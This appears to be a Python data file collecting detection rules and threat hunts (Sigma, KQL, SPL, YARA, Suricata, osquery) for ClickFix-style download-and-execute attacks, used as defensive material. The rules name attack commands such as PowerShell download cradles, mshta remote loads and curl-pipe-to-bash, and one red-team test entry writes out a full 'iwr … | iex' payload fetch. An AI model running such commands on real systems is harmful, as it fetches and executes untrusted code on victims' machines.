"""fpover23 texts: detection engineers' rules and hunts that quote the commands they look for
(Sigma, KQL, SPL, YARA, EQL, osquery packs, Suricata), from the company's detection repository
or a vendor's public rule docs, pasted into an editor or a SIEM's query box (own words)."""

from fp23_left import each

DETECTIONS = [
    *each(
        "https://github.com/northwind-sec/detections/blob/main/sigma/proc_creation_win_mshta_remote.yml",
        "other",
        "title: Mshta Loading a Remote HTA\nid: 4f2b7a3e-1c2d-4e8f-9a10-2b3c4d5e6f70\nstatus: experimental\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\mshta.exe'\n    CommandLine|contains:\n      - 'http://'\n      - 'https://'\n  condition: selection\nlevel: high",
        "title: PowerShell Download Cradle From Explorer\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  parent:\n    ParentImage|endswith: '\\explorer.exe'\n  cradle:\n    CommandLine|contains:\n      - 'iwr '\n      - 'Invoke-WebRequest'\n      - 'DownloadString('\n    CommandLine|contains|all:\n      - '| iex'\n  condition: parent and cradle\nfalsepositives:\n  - Admin scripts run interactively\nlevel: high",
        "title: Run Dialog Command With Hidden PowerShell Window\ndescription: Detects the RunMRU entry a ClickFix victim leaves behind\nlogsource:\n  category: registry_set\n  product: windows\ndetection:\n  selection:\n    TargetObject|contains: '\\Explorer\\RunMRU\\'\n    Details|contains|all:\n      - 'powershell'\n      - '-w h'\n  condition: selection\nlevel: high",
    ),
    *each(
        "https://github.com/northwind-sec/detections/blob/main/kql/clickfix_runmru.kql",
        "other",
        'DeviceRegistryEvents\n| where RegistryKey has @"\\Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "bitsadmin")\n| project Timestamp, DeviceName, InitiatingProcessAccountName, RegistryValueData',
        'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe", "pwsh.exe", "mshta.exe")\n| where ProcessCommandLine has_any ("-enc", "-EncodedCommand", "FromBase64String", "iex")\n| summarize count() by DeviceName, ProcessCommandLine',
        'DeviceNetworkEvents\n| where InitiatingProcessFileName =~ "mshta.exe"\n| where RemoteUrl !endswith ".microsoft.com"\n| project Timestamp, DeviceName, RemoteUrl, InitiatingProcessCommandLine',
    ),
    *each(
        "https://splunkbase.example.com/app/4242/docs/searches",
        "other",
        'index=wineventlog EventCode=4688 New_Process_Name="*\\\\mshta.exe" (Process_Command_Line="*http://*" OR Process_Command_Line="*https://*")\n| stats count by host, Account_Name, Process_Command_Line',
        'index=sysmon EventCode=1 Image="*\\\\powershell.exe" CommandLine="*-w hidden*" CommandLine="*Net.WebClient*"\n| table _time host User ParentImage CommandLine',
        '| tstats count from datamodel=Endpoint.Processes where Processes.process_name="certutil.exe" Processes.process="*-urlcache*" by Processes.dest Processes.process',
    ),
    *each(
        "https://github.com/fabrikam-dfir/yara-rules/blob/main/clickfix_html.yar",
        "other",
        'rule ClickFix_Fake_Captcha_HTML\n{\n    meta:\n        author = "fabrikam-dfir"\n        description = "Fake CAPTCHA page that writes a command to the clipboard"\n    strings:\n        $a = "navigator.clipboard.writeText" ascii\n        $b = "Windows + R" ascii nocase\n        $c = "mshta" ascii nocase\n        $d = "powershell" ascii nocase\n    condition:\n        $a and $b and ($c or $d)\n}',
        'rule PS_Download_Cradle_In_Script\n{\n    strings:\n        $iwr = /iwr\\s+-uri\\s+https?:\\/\\//i\n        $iex = "| iex" nocase\n        $dl = "DownloadString(" nocase\n    condition:\n        filesize < 200KB and ($iwr or $dl) and $iex\n}',
    ),
    *each(
        "https://docs.elastic.example/security/rules/prebuilt/suspicious-run-dialog",
        "other",
        'process where host.os.type == "windows" and event.type == "start" and\n  process.parent.name : "explorer.exe" and\n  process.name : ("powershell.exe", "cmd.exe", "mshta.exe") and\n  process.command_line : ("*http*", "*-enc*", "*FromBase64String*")',
        'sequence by host.id with maxspan=1m\n  [process where process.name : "mshta.exe" and process.args : "http*"]\n  [network where process.name : "mshta.exe"]',
    ),
    *each(
        "https://github.com/contoso-labs/osquery-packs/blob/main/persistence.conf",
        "other",
        '{\n  "queries": {\n    "launchd_curl_pipe": {\n      "query": "SELECT path, program_arguments FROM launchd WHERE program_arguments LIKE \'%curl%|%sh%\';",\n      "interval": 3600,\n      "description": "LaunchAgents that fetch and run a script"\n    }\n  }\n}',
        "SELECT pid, name, cmdline FROM processes WHERE cmdline LIKE '%osascript -e%display dialog%password%';",
    ),
    *each(
        "https://github.com/globex-soc/hunts/blob/main/macos/fake-installer.md",
        "other",
        'Hunt: macOS stealer installs via Terminal paste\n\nLook for: `curl -fsSL <url> | bash` or `bash -c "$(curl …)"` whose URL is not brew.sh or a known vendor, followed within a minute by `osascript` asking for the user\'s password.\n\nQuery (Jamf Protect / ES logs): process.name == "osascript" AND process.args CONTAINS "with hidden answer"',
    ),
    *each(
        "https://github.com/northwind-sec/detections/blob/main/suricata/clickfix.rules",
        "other",
        'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"NW - MSHTA user agent fetching HTA"; flow:established,to_server; http.user_agent; content:"MSIE 7.0"; http.uri; content:".hta"; endswith; classtype:trojan-activity; sid:9000101; rev:2;)',
    ),
    *each(
        "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-query-examples",
        "other",
        'DeviceProcessEvents\n| where Timestamp > ago(7d)\n| where FileName =~ "certutil.exe" and ProcessCommandLine has_all ("-urlcache", "-f")\n| project Timestamp, DeviceName, AccountName, ProcessCommandLine, InitiatingProcessFileName',
        'DeviceEvents\n| where ActionType == "PowerShellCommand"\n| where AdditionalFields has_any ("Invoke-Expression", "Net.WebClient", "Start-BitsTransfer")\n| take 100',
    ),
    *each(
        "https://github.com/fabrikam-dfir/sigma-private/blob/main/rules/windows/proc_creation_win_rundll32_webdav.yml",
        "other",
        "title: Rundll32 Loading DLL From WebDAV Share\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\rundll32.exe'\n    CommandLine|contains: '\\\\DavWWWRoot\\'\n  condition: selection\nfalsepositives:\n  - Legitimate WebDAV-hosted add-ins (rare)\nlevel: high",
        "title: Finger.exe Used to Fetch Commands\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\finger.exe'\n    CommandLine|contains: '@'\n  condition: selection\nlevel: high",
    ),
    *each(
        "https://github.com/northwind-sec/detections/blob/main/tests/atomic/README.md",
        "other",
        'To validate the rule, the red team ran (on the isolated lab VM only):\n\n    powershell -NoP -W Hidden -C "iwr http://10.10.5.20/payload.ps1 | iex"\n\nExpected: alert `PowerShell Download Cradle From Explorer` within 2 minutes. Actual: fired after 47 s.',
    ),
    *each(
        "https://github.com/globex-soc/hunts/blob/main/spl/finger_lolbin.spl",
        "other",
        'index=edr process_name=finger.exe\n| rex field=command_line "finger(?:\\.exe)?\\s+(?<query>\\S+@\\S+)"\n| stats values(query) as queries by host user\n| where mvcount(queries) > 0',
    ),
    *each(
        "https://docs.chronicle.example/yara-l/examples/clickfix",
        "other",
        'rule clickfix_run_dialog_powershell {\n  meta:\n    severity = "HIGH"\n  events:\n    $e.metadata.event_type = "PROCESS_LAUNCH"\n    $e.principal.process.file.full_path = /explorer\\.exe$/ nocase\n    $e.target.process.command_line = /powershell.*(-w\\s+h|hidden).*(iwr|irm|iex)/ nocase\n  condition:\n    $e\n}',
    ),
]
